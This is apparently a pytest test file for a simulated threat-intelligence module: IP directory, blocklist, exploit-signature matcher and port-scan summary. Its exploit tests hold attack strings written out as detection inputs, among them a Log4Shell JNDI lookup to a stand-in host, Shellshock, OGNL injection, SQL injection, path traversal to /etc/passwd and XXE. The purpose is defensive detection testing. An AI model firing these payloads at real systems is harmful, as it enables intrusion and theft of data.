"""Tests for the intel substrates: directory, blocklist, exploit-db, portscan."""

import dataclasses
import random
import re

import pytest

from repro.intel import (
    Blocklist,
    IpDirectory,
    PayloadVerdict,
    check_payload,
    scan_observers,
)
from repro.intel.exploitdb import (
    ENUMERATION_PATHS,
    SIGNATURES,
    Signature,
    matching_signature,
)
from repro.intel.portscan import summarize_ports
from repro.net.path import Hop


class TestIpDirectory:
    def test_register_and_lookup(self):
        directory = IpDirectory()
        record = directory.register("1.2.3.4", 4134, "CN", role="router")
        assert directory.lookup("1.2.3.4") is record
        assert directory.asn_of("1.2.3.4") == 4134
        assert directory.country_of("1.2.3.4") == "CN"

    def test_unknown_address_returns_none(self):
        directory = IpDirectory()
        assert directory.lookup("9.9.9.9") is None
        assert directory.asn_of("9.9.9.9") is None

    def test_idempotent_reregistration(self):
        directory = IpDirectory()
        directory.register("1.2.3.4", 4134, "CN", role="router")
        directory.register("1.2.3.4", 4134, "CN", role="router")
        assert len(directory) == 1

    def test_conflicting_registration_raises(self):
        directory = IpDirectory()
        directory.register("1.2.3.4", 4134, "CN", role="router")
        with pytest.raises(ValueError):
            directory.register("1.2.3.4", 15169, "US", role="origin")

    def test_as_name_for_named_and_synthetic(self):
        directory = IpDirectory()
        record = directory.register("1.2.3.4", 4134, "CN", role="router")
        assert "CHINANET" in record.as_name
        unknown = directory.register("1.2.3.5", 64512, "US", role="router")
        assert unknown.as_name == "AS64512"


class TestBlocklist:
    def test_add_and_contains(self):
        blocklist = Blocklist()
        blocklist.add("1.2.3.4")
        assert "1.2.3.4" in blocklist
        assert "5.6.7.8" not in blocklist

    def test_maybe_add_probability_extremes(self):
        blocklist = Blocklist()
        rng = random.Random(1)
        assert blocklist.maybe_add("1.1.1.2", 1.0, rng)
        assert not blocklist.maybe_add("1.1.1.3", 0.0, rng)

    def test_maybe_add_rejects_bad_probability(self):
        with pytest.raises(ValueError):
            Blocklist().maybe_add("1.1.1.2", 1.5, random.Random(1))

    def test_hit_rate_over_distinct_addresses(self):
        blocklist = Blocklist()
        blocklist.add("1.1.1.1")
        # Duplicates must not inflate the rate.
        rate = blocklist.hit_rate(["1.1.1.1", "1.1.1.1", "2.2.2.2"])
        assert rate == pytest.approx(0.5)

    def test_hit_rate_empty(self):
        assert Blocklist().hit_rate([]) == 0.0

    def test_statistical_rate(self):
        blocklist = Blocklist()
        rng = random.Random(42)
        added = sum(
            blocklist.maybe_add(f"10.0.{index // 256}.{index % 256}", 0.3, rng)
            for index in range(2000)
        )
        assert 0.25 < added / 2000 < 0.35


class TestExploitDb:
    def test_root_is_benign(self):
        assert check_payload("/") is PayloadVerdict.BENIGN

    def test_enumeration_paths_classified(self):
        for path in ENUMERATION_PATHS:
            assert check_payload(path) is PayloadVerdict.ENUMERATION

    @pytest.mark.parametrize("payload", [
        "/?q=${jndi:ldap://evil/a}",
        "/index.php?x=%{(#ognl)}",
        "/cgi-bin/test () { :; } ; /bin/bash",
        "/vendor/phpunit/src/Util/PHP/eval-stdin.php",
        "/search?q=1 UNION SELECT password FROM users",
    ])
    def test_exploit_signatures_detected(self, payload):
        assert check_payload(payload) is PayloadVerdict.EXPLOIT

    def test_exploit_in_body(self):
        assert check_payload("/submit", b"<!ENTITY xxe SYSTEM 'file:///'>") is \
            PayloadVerdict.EXPLOIT

    def test_compiled_signatures_match_as_re_search(self):
        """Each signature's compiled pattern gives ``re.search``'s verdict
        on the pattern string, on every enumeration path, one string per
        signature and a benign path."""
        def searched(path):
            haystack = path + " "
            if any(re.search(signature.pattern, haystack, flags=re.IGNORECASE)
                   for signature in SIGNATURES):
                return PayloadVerdict.EXPLOIT
            return (PayloadVerdict.ENUMERATION if path not in ("", "/")
                    else PayloadVerdict.BENIGN)

        exploits = {
            "EDB-44245": "/index.action?x=%{(#_='ognl')}",
            "EDB-50383": "/cgi-bin/.%2e/.%2e/etc/passwd",
            "EDB-49757": "/?q=${JNDI:ldap://evil/a}",
            "EDB-41962": "/cgi-bin/status () { :; }; echo",
            "EDB-47297": "/vendor/phpunit/Util/PHP/EVAL-STDIN.PHP",
            "EDB-51118": "/item?id=1 OR 1=1--",
            "EDB-45010": "/upload?doc=<!ENTITY xxe SYSTEM 'file:///'>",
        }
        assert set(exploits) == {signature.identifier
                                 for signature in SIGNATURES}
        for signature in SIGNATURES:
            assert signature.matches(exploits[signature.identifier])
        for path in ENUMERATION_PATHS + tuple(exploits.values()) + ("/",):
            assert check_payload(path) is searched(path)

    def test_signature_keeps_its_fields(self):
        signature = SIGNATURES[0]
        signature.matches("/")
        assert [field.name for field in dataclasses.fields(signature)] == [
            "identifier", "description", "pattern"]
        assert signature == Signature(signature.identifier,
                                      signature.description, signature.pattern)
        assert repr(signature) == (
            f"Signature(identifier={signature.identifier!r}, "
            f"description={signature.description!r}, "
            f"pattern={signature.pattern!r})")

    def test_matching_signature_returns_identifier(self):
        signature = matching_signature("/?x=${jndi:rmi://evil}")
        assert signature is not None
        assert signature.identifier == "EDB-49757"
        assert matching_signature("/robots.txt") is None


class TestPortScan:
    def make_resolver(self, table):
        return lambda address: table.get(address)

    def test_scan_known_router_with_bgp(self):
        hop = Hop(address="10.0.0.1", asn=4134, country="CN", open_ports=(179,))
        results = scan_observers(["10.0.0.1"], self.make_resolver({"10.0.0.1": hop}))
        assert results[0].responsive
        assert results[0].open_ports == (179,)
        assert results[0].banners == ((179, "BGP-4"),)

    def test_unknown_address_is_silent(self):
        results = scan_observers(["9.9.9.9"], self.make_resolver({}))
        assert not results[0].responsive

    def test_summary_silent_fraction_and_top_port(self):
        table = {
            "10.0.0.1": Hop("10.0.0.1", 1, "CN", open_ports=(179,)),
            "10.0.0.2": Hop("10.0.0.2", 1, "CN", open_ports=()),
            "10.0.0.3": Hop("10.0.0.3", 1, "CN", open_ports=(179, 22)),
        }
        results = scan_observers(sorted(table), self.make_resolver(table))
        summary = summarize_ports(results)
        assert summary["observers_scanned"] == 3
        assert summary["silent_fraction"] == pytest.approx(1 / 3)
        assert summary["top_open_port"] == 179

    def test_summary_empty(self):
        summary = summarize_ports([])
        assert summary["top_open_port"] is None
        assert summary["silent_fraction"] == 0.0
